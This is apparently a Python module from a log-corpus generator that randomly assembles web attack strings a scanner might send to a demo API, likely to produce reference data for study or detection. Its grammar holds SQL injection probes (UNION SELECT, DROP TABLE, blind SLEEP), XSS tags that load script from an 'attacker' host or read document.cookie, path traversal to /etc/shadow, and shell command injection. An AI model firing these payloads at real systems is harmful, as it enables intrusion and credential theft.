"""What a scanner sends to the reference system's demo API: a short list of templates, filled in anew for each request."""

from __future__ import annotations

from typing import Final

from weirlog.models.corpus.grammar import Chance, Grammar
from weirlog.models.corpus.values import DIGITS, LOWER


def _same(chance: Chance) -> str:
    """Return a comparison of a thing with itself, or one that is false: the two halves of a blind probe."""
    one = chance.letters(DIGITS, 1, 4)
    other = one if chance.maybe(0.7) else chance.letters(DIGITS, 1, 4)
    word = chance.letters(LOWER, 1, 4)
    return chance.pick(
        (f"{one}={other}", "1=1", "'T'='T", "'T'='T'", "TRUE", f"'{word}'='{word}", f"'{one}'='{other}")
    )  # fmt: skip


def _nulls(chance: Chance) -> str:
    return ",".join(["NULL"] * chance.number(1, 5))


def _up(chance: Chance) -> str:
    return chance.pick(("../", "../", "..\\")) * chance.number(2, 6)


def _entities(chance: Chance) -> str:
    """Return a tag in the entities that a page shows it with, which some filters undo."""
    tag = _TEMPLATES.draw(chance, "tag")
    for character, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        tag = tag.replace(character, entity)
    return tag


_TEMPLATES: Final = Grammar(
    {
        "payload": [
            "«sql»",
            "«sql»",
            "«sql»",
            "«sql»",
            "«tag»",
            "«tag»",
            "«entities»",
            "«entities»",
            "«entities»",
            "«other»",
        ],
        "same": _same,
        "nulls": _nulls,
        "up": _up,
        "entities": _entities,
        "digit": lambda chance: str(chance.number(1, 9)),
        "number": lambda chance: chance.letters(DIGITS, 2, 4),
        "letters": lambda chance: chance.letters(LOWER, 4, 6),
        "before": ["", "", "", "«digit»", "«number»", "admin", "test"],
        "close": ["'", "'", "'", "')", '"', "'))"],
        "end": ["--", "-- -", "#", "", "", ";", ";--"],
        "logic": ["OR", "OR", "OR", "or", "AND", "OR NOT"],
        "table": ["USERS", "USERS", "MEMBERS", "users", "ORDERS", "accounts"],
        "column": ["*", "PASSWORD", "username", "NAME", "password"],
        "sql": [
            "«before»«close» «logic» «same»«end»",
            "«before»«close» «logic» «same»«end»",
            "«before»' «logic» «same»«end»",
            "«before»' «logic» «same»",
            "«before»'«logic» «same»",
            "«before»«close» ORDER BY «digit»«end»",
            "«before»«close» UNION ALL SELECT «nulls»«end»",
            "«before»«close» UNION SELECT «column» FROM «table»«end»",
            "«before»«close»; DROP TABLE «table»«end»",
            "«before»«close»; DELETE FROM «table» WHERE «same»«end»",
            "«before»«close» AND SLEEP(«digit»)«end»",
            "admin'«end»",
            "SELECT «column» FROM «table» WHERE «same»",
            "DROP TABLE «table»",
            "«number» OR «same»",
        ],
        "script": ["alert(«digit»)", "alert('XSS')", "alert(document.cookie)", "MALICIOUS", "attack"],
        "source": ["http://attacker/«letters».js", "http://attacker/«letters»", "javascript:alert(«digit»)", "x"],
        "tag": [
            "<script>«script»</script>",
            "<SCRIPT>«script»</SCRIPT>",
            '"><script>«script»</script>',
            '<script src="«source»"></script>',
            '<IMG SRC="«source»">',
            '<img src="«source»" onerror="«script»">',
            '<BODY ONLOAD="«script»">',
            '<iframe src="«source»"></iframe>',
            '<a href="«source»">«letters»</a>',
            '<LINK REL="stylesheet" HREF="«source»">',
            "</«letters»><b>«letters»</b>",
        ],
        "target": ["etc/passwd", "etc/passwd", "windows/win.ini", "etc/shadow", "boot.ini"],
        "run": ["cat /etc/passwd", "cat «target»", "ls -la /etc", "ping -c «digit» localhost"],
        "other": ["«up»«target»", "«up»«target»", "file:///«target»", "; «run»;", "&& «run»"],
    }
)


def payload(chance: Chance) -> str:
    """Return one attack, in the characters of the reference data alone."""
    return _TEMPLATES.draw(chance, "payload")
